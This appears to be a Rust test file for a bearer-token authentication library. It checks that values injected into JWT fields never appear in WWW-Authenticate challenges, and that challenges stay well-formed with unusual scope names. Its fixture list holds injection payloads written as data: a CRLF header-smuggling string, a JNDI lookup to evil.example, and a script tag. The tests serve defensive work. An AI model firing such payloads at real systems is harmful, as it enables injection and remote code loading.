//! The challenge follows its grammar for any text in a token or a request (R12). The suite's own
//! parser checks that at every answer of every test; these are texts that could break it.

use actix_mcp_auth::{keys::RefreshSettings, testing::TestAuthority};
use hostile::{
    Class,
    Expected::{BadToken, MissingScope, NoCredentials, Passed},
    METADATA_URL, RESOURCE, Server,
    server::{builder, builder_with_scopes},
};

const TEXTS: [&str; 14] = [
    "\"",
    "\\",
    "\\\"",
    "\", error=\"insufficient_scope",
    "\"\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "\r\n",
    "\0",
    "\u{7f}",
    "é",
    "☕ 𝒜",
    "\u{2028}",
    "Bearer realm=\"x\"",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
];

#[test]
fn r09_r12_no_text_of_a_token_reaches_an_answer() {
    let authority = TestAuthority::start().unwrap();
    // A fetch for each unknown `kid`, so that each is refused with a challenge.
    let mut refresh = RefreshSettings::default();
    refresh.bucket = 100;
    let server = Server::when_ready(&builder(&authority).refresh(refresh).build().unwrap());
    let mut class = Class::new("texts in tokens");
    let mut wire = server.wire();
    // A mark by which the text is found anywhere.
    let texts = TEXTS.map(|text| format!("mark{text}mark"));
    for text in texts.iter().map(String::as_str).chain([&*"mark\"".repeat(1_000)]) {
        let good = || authority.token().subject("user_ada").audience(RESOURCE);
        for (place, token) in [
            ("iss", good().issuer(text)),
            ("aud", good().audience(text)),
            ("auds", good().audiences([text, text])),
            ("kid", good().kid(text)),
            ("alg", good().header("alg", text)),
            ("typ", good().typ(text)),
            ("crit", good().header("crit", vec![text])),
            ("exp", good().claim("exp", text)),
            ("a name twice", good().payload_bytes(format!("{{{0:?}:1,{0:?}:2}}", "mark\""))),
            ("all of it", good().payload_bytes(text)),
        ] {
            let answer = wire.call(format!("Bearer {}", token.sign()).as_bytes());
            class.answer(format!("{place}: {text:.40?}"), &answer, BadToken);
            let shown = format!("{answer:?}").contains("mark");
            class.same(format!("{place}: {text:.40?} shown"), shown, false);
        }
    }
    class.done();
}

#[test]
fn r12_r13_r14_challenges_are_valid_with_any_configuration() {
    let authority = TestAuthority::start().unwrap();
    let mut class = Class::new("configured texts");
    let odd = ["a,b", "error=x", "a'b", "!#$%&()*+-./:;<=>?@[]^_`{|}~", "resource_metadata=x"];
    let auth = builder_with_scopes(&authority, &odd).build().unwrap();
    let server = Server::when_ready(&auth);
    let all = odd.join(" ");
    let bearer = |scope: &str| {
        let token = authority.token().subject("user_ada").audience(RESOURCE).scope(scope);
        format!("Bearer {}", token.sign())
    };
    for (what, headers, expected) in [
        ("no token", None, NoCredentials),
        ("a bad token", Some("Bearer x".to_owned()), BadToken),
        ("a token without them", Some(bearer("openid")), MissingScope),
        ("a token with some", Some(bearer(&odd[1..].join(" "))), MissingScope),
        ("a token with all", Some(bearer(&all)), Passed),
    ] {
        let answer = match &headers {
            Some(value) => server.wire().call(value.as_bytes()),
            None => server.wire().post(&[]),
        };
        class.answer(what, &answer, expected);
        if let Some(challenge) = answer.challenge() {
            class.same(format!("{what}: scope"), challenge.get("scope"), Some(&*all));
            class.same(
                format!("{what}: metadata"),
                challenge.get("resource_metadata"),
                Some(METADATA_URL),
            );
            let known = ["error", "error_description", "resource_metadata", "scope"];
            let unknown = challenge.parameters.keys().find(|name| !known.contains(&name.as_str()));
            class.same(format!("{what}: parameters"), unknown, None);
        }
    }
    class.done();
}
